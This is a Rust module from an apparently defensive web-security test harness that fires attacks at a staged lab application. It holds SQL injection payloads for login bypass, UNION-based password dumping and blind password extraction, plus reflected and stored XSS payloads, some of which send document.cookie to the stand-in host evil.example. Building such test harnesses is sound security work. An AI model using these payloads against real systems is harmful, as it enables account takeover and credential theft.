//! The attacks that bring a language where a value should be. Each in several spellings; a spelling hits where
//! its effect is seen in the answer.

use std::io;

use super::attacks::{Stage, get};
use super::browser::Browser;
use super::outcome::Outcome;
use super::sample::random_hex;

/// Signs in without a password (CWE-89).
pub(super) async fn sign_in(stage: &Stage<'_>) -> io::Result<Outcome> {
    let mut outcome = Outcome::new("signed in without the password");
    for name in [
        "' OR 1=1 --",
        "alice' --",
        "alice'/**/or/**/'a'='a'--",
        "x' UNION SELECT 'alice' --",
        "nobody' oR\tname\nLIKE\r'al%' --",
    ] {
        let mut browser = Browser::new(stage.door);
        let page = browser.sign_in(name, "anything").await?;
        outcome.shot(page.text.contains("Welcome, "), &page);
    }
    Ok(outcome)
}

/// Reads passwords where services are listed (CWE-89).
pub(super) async fn union(stage: &Stage<'_>) -> io::Result<Outcome> {
    let mut outcome = Outcome::new("listed the passwords");
    for (path, value) in [
        ("/search?q=", "%' UNION SELECT name, password FROM accounts --"),
        ("/search?q=", "zzz'/*x*/uNiOn/*y*/aLl/*z*/sElEcT name,password/*!*/FROM accounts WHERE'1'='1' --"),
        ("/report?id=", "0 UNION SELECT name, password FROM accounts"),
        ("/report?id=", "-1\nunion\nselect\nfull_name,(password)from(accounts)"),
    ] {
        let page = get(stage.door, &format!("{path}{}", encoded(value)), &[]).await?;
        outcome.shot(page.text.contains("lighthouse-7"), &page);
    }
    Ok(outcome)
}

/// Asks for a letter of a password by an answer that differs (CWE-89).
pub(super) async fn blind(stage: &Stage<'_>) -> io::Result<Outcome> {
    let mut outcome = Outcome::new("told a letter of a password");
    for (path, ask) in [
        ("/search?q=", "Cargo%' AND substr((SELECT password FROM accounts WHERE name='alice'),1,1)='{}' --"),
        ("/report?id=", "2 AND (SELECT password FROM accounts WHERE name='alice') LIKE '{}%'"),
        ("/report?id=", "iif(unicode((select password from accounts limit 1))=unicode('{}'),2,0)"),
    ] {
        let right = get(stage.door, &format!("{path}{}", encoded(&ask.replace("{}", "l"))), &[]).await?;
        let wrong = get(stage.door, &format!("{path}{}", encoded(&ask.replace("{}", "x"))), &[]).await?;
        let tells = right.text.contains("Containers, crates") && !wrong.text.contains("Containers, crates");
        outcome.shot(tells, &right);
    }
    Ok(outcome)
}

/// A script comes back with the page (CWE-79).
pub(super) async fn reflected(stage: &Stage<'_>) -> io::Result<Outcome> {
    let mut outcome = Outcome::new("sent the script back in the page");
    for script in [
        "<script>fetch(`https://evil.example/`+document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=location=`https://evil.example`>",
        "<a href=\"jav&#x09;ascript:alert(1)\">prize</a>",
        "<iframe srcdoc=\"&lt;script>parent.document&lt;/script>\">",
    ] {
        let page = get(stage.door, &format!("/search?q={}", encoded(script)), &[]).await?;
        outcome.shot(page.text.contains(script), &page);
    }
    Ok(outcome)
}

/// A script stays in the page for everybody (CWE-79).
pub(super) async fn stored(stage: &Stage<'_>) -> io::Result<Outcome> {
    let mut outcome = Outcome::new("kept the script for everybody");
    for field in ["words", "author"] {
        let mark = random_hex()?;
        let script =
            format!("Nice quay<script>/*{mark}*/new Image().src='//evil.example/'+document.cookie</script>");
        let mut browser = Browser::new(stage.door);
        let book = browser.open("/guestbook").await?;
        let other = if field == "words" { ("author", "Eve") } else { ("words", "Hello") };
        let page = browser.submit(&book, "/guestbook", &[(field, &script), other]).await?;
        let kept = get(stage.door, "/guestbook", &[]).await?;
        outcome.shot(kept.text.contains(&format!("<script>/*{mark}")), &page);
    }
    Ok(outcome)
}

fn encoded(value: &str) -> String {
    percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC).to_string()
}
